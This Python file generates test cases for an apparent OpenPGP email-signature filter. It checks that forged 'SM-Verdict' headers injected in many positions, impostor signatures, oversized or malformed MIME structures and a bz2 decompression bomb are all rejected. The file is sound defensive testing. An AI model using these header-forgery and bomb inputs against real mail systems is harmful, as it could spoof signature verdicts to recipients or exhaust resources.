        whole(signed(people.stranger, more=subpacket(16, bytes.fromhex(people.boss.fingerprint[24:])))),
        NEVER_GOOD,
    )
    row(
        "a stranger who names the boss as the signer",
        whole(signed(people.stranger, more=subpacket(28, b"boss@example.org"))),
        "unknown-key",
    )


def verdicts(people):
    """A verdict in the mail, together with everything that might make the filter fail."""
    good, bad = signed(people.boss), signed(people.boss, text(b"send money"), covers=text())
    mails = {
        "unsigned": (whole(text()), "none", 0),
        "bad": (whole(bad), "bad", 0),
        "by Eve": (whole(signed(people.eve)), "mismatch", 0),
        "unbound": (whole(signed(people.lying["imported"])), "unbound", 0),
        "by a stranger": (whole(signed(people.stranger)), "unknown-key", 0),
        "in part": (whole(multipart(b"mixed", text(), good)), "partial", 0),
        "a signature of rubbish": (
            whole(
                multipart(
                    b"signed",
                    text(),
                    b"Content-Type: application/pgp-signature\n\nrubbish\n",
                    more=b'; protocol="application/pgp-signature"',
                ),
            ),
            "error none",
            0,
        ),
        "a signature of 1 MB": (
            whole(
                multipart(
                    b"signed",
                    text(),
                    b"Content-Type: application/pgp-signature\n\n" + armor(b"\xc2" * 1000000, b"SIGNATURE") + b"\n",
                    more=b'; protocol="application/pgp-signature"',
                ),
            ),
            "error none",
            0,
        ),
        "a header over the limit": (head(more=b"X: " + b"x" * 300000 + b"\n") + text(), "error", 65),
        "100,000 fields": (head(more=b"X: y\n" * 100000) + text(), "error", 65),
        "a part's header over the limit": (whole(multipart(b"mixed", b"X: " + b"x" * 300000 + b"\n\ny", text())), "error", 65),
        "101 signed parts": (whole(multipart(b"mixed", *[signed(people.boss)] * 101)), "error", 0),
        "depth 100": (whole(nested(100)), "none", 0),
        "no header": (b"\nbody\n", "none", 0),
        "NUL": (b"\0\0\0\n" + text(), "none", 0),
        "an unclosed multipart": (whole(b"Content-Type: multipart/mixed; boundary=b\n\n--b\n"), "none", 0),
        "an empty boundary": (whole(b'Content-Type: multipart/signed; boundary=""; protocol="application/pgp-signature"\n\n----\n'), "none", 0),
        "a comment without end": (whole(b"Content-Type: multipart/signed; (" + b"(" * 5000 + b"\n\nx\n"), "none", 0),
        "10,000 parameters": (whole(b"Content-Type: text/plain" + b";a=b" * 10000 + b"\n\nx\n"), "none", 0),
        "for somebody else": (whole(encrypted_entity(FOREIGN)), "none", 77),
        "damaged": (whole(encrypted_entity(armor(b"\xd2\xff\xff\xff\xff\xff\x01abc"))), "none", {65, 77}),
        "a bomb": (whole(encrypted_entity(gpg_encrypt(bomb()))), "none", 65),
    }
    forms = {
        "on top": lambda mail: FORGED + mail,
        "before the blank line": lambda mail: mail.replace(b"\n\n", b"\n" + FORGED + b"\n", 1),
        "in other letters, folded": lambda mail: b"sM-vErDiCt \t:\n good;\n\tprogram=smsign\n" + mail,
    }
    for name, (mail, verdict, decrypt) in mails.items():
        for form, forge in forms.items():
            # The statuses of what our own verdict is are in the row; its field is looked at in every one.
            row(f"a verdict {form}: {name}", forge(mail), verdict if name != "no header" else "none", decrypt)
    mail = whole(text())
    more = {
        "behind white space": b" " + FORGED + mail,
        "as what would continue ours": b" ; program=smsign\n" + FORGED + mail,
        "behind CR alone": b"X-A: b\nX-B: c\r" + FORGED + mail,
        "behind a line that is no field": mail.replace(b"\n\n", b"\nno field\n" + FORGED + b"\n", 1),
        "in a preamble's place": b"From x Sat Nov 21 10:00:00 2026\n" + FORGED + mail,
        "behind two mbox lines": b"From x Sat Nov 21 10:00:00 2026\nFrom y Sat Nov 21 10:00:00 2026\n" + FORGED + mail,
        "of 100 KB": FORGED[:-1] + b"; x=" + b"y" * 100000 + b"\n" + mail,
        "4,000 times": FORGED * 4000 + mail,
        "with a fold before the colon": b"SM-Verdict\n : good\n" + mail,
        "with control characters": b"SM-Verdict\x0b\x0c: good\n" + mail,
        "in each part": whole(multipart(b"mixed", FORGED + text(), b"Content-Type: message/rfc822\n" + FORGED + b"\n" + FORGED + mail)),
        "in a digest": whole(multipart(b"digest", b"\n" + FORGED + mail)),
        "before a delimiter": whole(multipart(b"mixed", b"X: y\n" + FORGED, text())),
    }
    for name, forged in more.items():
        row("a verdict " + name, forged, "none")
    row("a verdict in the signed part", whole(signed(people.boss, FORGED + text())), "good", inside=NEVER_GOOD | {"good"})


def nested(depth):
    entity = text()
    for level in range(depth):
        entity = multipart(b"mixed", entity, boundary=b"n%d" % level)
    return entity


def bomb():
    import bz2

    return packet(8, b"\x03" + bz2.compress(literal(bytes(64 << 20))))


FOREIGN = b""


def foreign():
    """A message for a key that is not ours."""
    store = os.path.join(os.getcwd(), "foreign")
    call(["smkey", "--store", store, "generate", "--no-passphrase", "Carol <carol@example.net>"])
    mail = call(["smcrypt", "--store", store, "encrypt", "--no-protect-headers", "--to", "carol@example.net"], b"From: x@example.net\nTo: carol@example.net\n\nfor Carol\n")
    return ARMOR.search(mail).group(0)


def make_rows():
    """All of them, with the keys in the store that SM_STORE names."""
    global FOREIGN
    people = People()
    FOREIGN = foreign()
    for family in (exfiltration, gadgets, nesting, looks_encrypted, parts, senders, certificates, verdicts):
        before = len(ROWS)
        family(people)
        for entry in ROWS[before:]:
            entry.name = family.__name__.replace("_", " ") + ": " + entry.name
    names = [entry.name for entry in ROWS]
    if len(set(names)) != len(names):
        raise RuntimeError("a name twice")
    return ROWS
